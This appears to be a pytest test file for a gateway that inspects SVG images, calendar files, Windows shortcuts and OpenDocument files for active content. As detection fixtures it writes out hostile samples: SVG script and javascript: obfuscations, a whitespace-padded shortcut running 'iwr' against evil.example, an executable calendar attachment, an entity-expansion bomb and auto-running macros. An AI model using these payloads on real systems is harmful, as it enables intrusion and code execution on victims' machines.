"""SVG, calendars, shortcuts, OpenDocument: what they do by themselves, and where they lead."""

import base64
import struct

import pytest

from gateway.inspection.facts import Lock, Macro
from tests.inspection.formats.documents import first, opened, zipped

SVG, CALENDAR, SHORTCUT = "image/svg+xml", "text/calendar", "application/x-ms-shortcut"
TEXT = "application/vnd.oasis.opendocument.text"
EVENT = '<office:x xmlns:office="urn:o" xmlns:script="urn:s" xmlns:xlink="urn:l">{}</office:x>'


@pytest.mark.parametrize(
    ("body", "active"),
    [
        ("<script>x()</script>", "script"),
        ("<s:script xmlns:s='http://www.w3.org/2000/svg'/>", "script"),
        ("<g onload='x()'/>", "script"),
        ("<a href='java&#10;script:x()'/>", "script"),
        ("<a href=' javascript:x()'/>", "script"),
        ("<set attributeName='href' to='javascript:x()'/>", "script"),
        ("<image href='data:image/svg+xml;base64,AAAA'/>", "script"),
        ("<foreignObject><iframe src='x'/></foreignObject>", "frame"),
        ("<foreignObject><form action='https://evil.example/'/></foreignObject>", "form_submit"),
        ("<image href='https://evil.example/a.png'/>", "remote_content"),
        ("<image href='data:image/png;base64,AAAA'/>", ""),
        ("<use href='#a'/><path d='M0 0'/>", ""),
    ],
)
def test_pictures_that_are_pages(monkeypatch: pytest.MonkeyPatch, body: str, active: str) -> None:
    data = f"<svg xmlns='http://www.w3.org/2000/svg'>{body}</svg>"
    for encoding in ("utf-8", "utf-16"):
        part = first(monkeypatch, data.encode(encoding), SVG)
        assert active in part.active if active else part.active == ()


def test_a_picture_leads_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    found = opened(monkeypatch, b"<svg><a href='https://shop.example/'>x</a></svg>", SVG)
    assert [link.target for link in found.links] == ["https://shop.example/"]


def test_entities_do_not_grow(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 20}'>" for n in range(1, 12))
    data = f"<!DOCTYPE svg [<!ENTITY e0 'lol'>{rows}]><svg a='&e11;'>&e11;</svg>".encode()
    assert first(monkeypatch, data, SVG).problems == ("damaged",)


def calendar(*lines: str) -> bytes:
    return "\r\n".join(("BEGIN:VCALENDAR", *lines, "END:VCALENDAR", "")).encode()


def test_an_attachment_of_a_calendar_is_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    packed = base64.b64encode(b"MZ program").decode()
    line = f"ATTACH;FMTTYPE=text/plain;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.exe:{packed[:5]}"
    outer, inner = opened(monkeypatch, calendar(line, f" {packed[5:]}"), CALENDAR).parts
    assert (inner.names, inner.size, inner.declared_types) == (("a.exe",), 10, ("text/plain",))
    assert outer.active == ("embedded_file",)


def test_links_of_a_calendar_are_links(monkeypatch: pytest.MonkeyPatch) -> None:
    data = calendar("ATTACH:https://a.example/x", "DESCRIPTION:Join\\nhttps://b.example/", "URL:https://c.example/")
    links = [link.target for link in opened(monkeypatch, data, CALENDAR).links]
    assert links == ["https://a.example/x", "https://b.example/", "https://c.example/"]


def test_an_alarm_that_starts_a_program_is_noted(monkeypatch: pytest.MonkeyPatch) -> None:
    assert first(monkeypatch, calendar("BEGIN:VALARM", "ACTION:PROCEDURE"), CALENDAR).active == ("launch",)


def shortcut(arguments: str) -> bytes:
    encoded = arguments.encode("utf-16-le")
    return struct.pack("<I16sI", 0x4C, bytes(16), 0xA0).ljust(0x4C, b"\0") + struct.pack("<H", len(arguments)) + encoded


@pytest.mark.parametrize(
    ("arguments", "links"),
    [
        (" " * 300 + "-c iwr https://evil.example/a.ps1", ["https://evil.example/a.ps1"]),
        ("\\\\evil.example\\share\\a.exe", ["\\\\evil.example\\share\\a.exe"]),
        ("/c dir", []),
    ],
)
def test_a_shortcut_starts_something(monkeypatch: pytest.MonkeyPatch, arguments: str, links: list[str]) -> None:
    found = opened(monkeypatch, shortcut(arguments), SHORTCUT)
    assert (found.parts[0].active, [link.target for link in found.links]) == (("launch",), links)


def test_a_shortcut_that_is_cut_short_starts_something_too(monkeypatch: pytest.MonkeyPatch) -> None:
    part = first(monkeypatch, shortcut("x")[:0x4C], SHORTCUT)
    assert (part.active, part.problems) == (("launch",), ("damaged",))


@pytest.mark.parametrize(
    ("parts", "grade"),
    [
        ({"content.xml": EVENT.format("")}, Macro.NONE),
        ({"Basic/script-lc.xml": "<x/>"}, Macro.NONE),
        ({"Basic/Standard/Module1.xml": "Sub Main\nEnd Sub"}, Macro.PRESENT),
        ({"Scripts/python/a.py": "import os"}, Macro.PRESENT),
        ({"Basic/Standard/Module1.xml": 'Sub Main\nShell("calc")\nEnd Sub'}, Macro.SUSPICIOUS),
        ({"content.xml": EVENT.format('<script:event-listener script:event-name="dom:load"/>')}, Macro.AUTO_RUN),
        ({"content.xml": EVENT.format('<script:event-listener script:event-name="form:click"/>')}, Macro.PRESENT),
    ],
)
def test_macros_of_open_documents(monkeypatch: pytest.MonkeyPatch, parts: dict[str, str], grade: Macro) -> None:
    assert first(monkeypatch, zipped(parts), TEXT).macro is grade


def test_an_encrypted_open_document_is_locked(monkeypatch: pytest.MonkeyPatch) -> None:
    manifest = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    assert first(monkeypatch, zipped({"META-INF/manifest.xml": manifest}), TEXT).lock is Lock.LOCKED


def test_what_an_open_document_fetches_is_noted(monkeypatch: pytest.MonkeyPatch) -> None:
    image = EVENT.format('<office:image xlink:href="https://evil.example/a.png"/>')
    assert first(monkeypatch, zipped({"content.xml": image}), TEXT).active == ("external_relationship",)
